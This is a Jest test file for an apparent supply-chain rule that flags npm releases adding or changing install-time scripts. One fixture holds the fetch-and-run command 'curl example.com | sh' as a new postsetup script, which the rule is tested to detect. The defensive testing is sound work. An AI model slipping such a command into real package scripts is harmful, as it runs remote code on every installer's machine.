import { expect, test } from '@jest/globals';
import type { JsonObject } from '../../src/model.ts';
import { newInstallScript } from '../../src/rules/new-install-script.ts';
import { findingsOf, pair, type Release, toldOf } from '../previous/releases.ts';

const scripts = (of: JsonObject): Release => ({ files: { 'setup_bun.js': '', 'install.js': '', 'x.js': '' }, manifest: { scripts: of } });

test.each<[string, Release, Release, readonly string[]]>([
  [
    'a new one, with what it runs',
    scripts({ build: 'tsc' }),
    scripts({ preinstall: 'node setup_bun.js' }),
    ['error: package.json would make npm run "node setup_bun.js" (setup_bun.js) at every install: "preinstall" is new since 1.2.3'],
  ],
  [
    'one with other words',
    scripts({ postinstall: 'node install.js' }),
    scripts({ postinstall: 'node install.js && node x.js' }),
    [
      'error: package.json would make npm run "node install.js && node x.js" (install.js, x.js) at every install: "postinstall" was "node install.js" in 1.2.3',
    ],
  ],
  [
    'one that runs another script, which has other words',
    scripts({ postinstall: 'npm run setup', setup: 'node install.js' }),
    scripts({ postinstall: 'npm run setup', setup: 'node x.js' }),
    [
      'error: package.json would make npm run "npm run setup" (x.js) at every install: it runs "setup", which was "node install.js" in 1.2.3',
    ],
  ],
  [
    'one that runs a new script',
    scripts({ postinstall: 'npm run setup', setup: 'node install.js' }),
    scripts({ postinstall: 'npm run setup', setup: 'node install.js', postsetup: 'curl example.com | sh' }),
    ['error: package.json would make npm run "npm run setup" (install.js) at every install: it runs "postsetup", which is new since 1.2.3'],
  ],
  [
    'node-gyp',
    {},
    { files: { 'binding.gyp': '{}' } },
    ['error: binding.gyp would make npm run "node-gyp rebuild" at every install: "install" is new since 1.2.3'],
  ],
  ['the same', scripts({ install: 'node install.js' }), scripts({ install: 'node install.js' }), []],
  ['one that is gone', scripts({ install: 'node install.js' }), scripts({}), []],
  ['scripts that only we run', scripts({}), scripts({ prepare: 'husky', prepublishOnly: 'node x.js', test: 'x' }), []],
])('%s', async (_, before, after, expected) => {
  expect(await toldOf(newInstallScript, before, after)).toEqual(expected);
});

test('no earlier release: nothing is new', async () => {
  expect(await toldOf(newInstallScript, null, scripts({ install: 'node install.js' }))).toEqual([]);
});

test('it points at the script that changed', async () => {
  const before = scripts({ postinstall: 'npm run setup', setup: 'a' });
  const [finding] = await findingsOf([newInstallScript], await pair(before, scripts({ postinstall: 'npm run setup', setup: 'node x' })));
  expect(finding).toMatchObject({
    path: 'package.json',
    anchor: { kind: 'manifest', pointer: ['scripts', 'setup'] },
    data: { script: 'postinstall', command: 'npm run setup', changed: 'setup', before: 'a', runs: ['x.js'] },
  });
});
